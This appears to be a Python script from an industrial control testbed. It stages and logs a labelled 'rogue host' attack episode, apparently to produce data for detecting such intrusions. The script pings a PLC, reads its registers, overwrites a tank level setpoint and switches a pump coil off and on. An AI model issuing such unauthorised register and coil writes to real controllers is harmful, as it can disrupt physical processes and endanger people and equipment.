"""A host nobody knows joins the network: it pings the controller, reads its registers and writes a setpoint."""

import subprocess
import time

from attacks.episode import Connection, arguments, episode, read_registers, write_coil, write_register
from hosts import tank
from network import PLC, ROGUE

ROUNDS = 20

if __name__ == "__main__":
    given = arguments(__doc__)
    claims = [{"kind": "host", "mac": ROGUE.mac, "ip": ROGUE.ip}]
    description = "an unknown host pings the plc, reads all registers and writes a setpoint and a coil"
    with episode(given.log, "rogue_host", description, claims, mac=ROGUE.mac):
        subprocess.run(["ping", "-q", "-c", "2", "-i", "0.5", "-W", "1", PLC.ip], check=True, stdout=subprocess.DEVNULL)
        with Connection([]) as plc:
            for _ in range(ROUNDS):
                plc.request(read_registers(3, 0, 10))
                plc.request(read_registers(4, 0, 8))
                time.sleep(0.3)
            plc.request(write_register(tank.LEVEL_SETPOINT, 450))
            plc.request(write_coil(tank.PUMP, False))
            time.sleep(1)
            plc.request(write_coil(tank.PUMP, True))
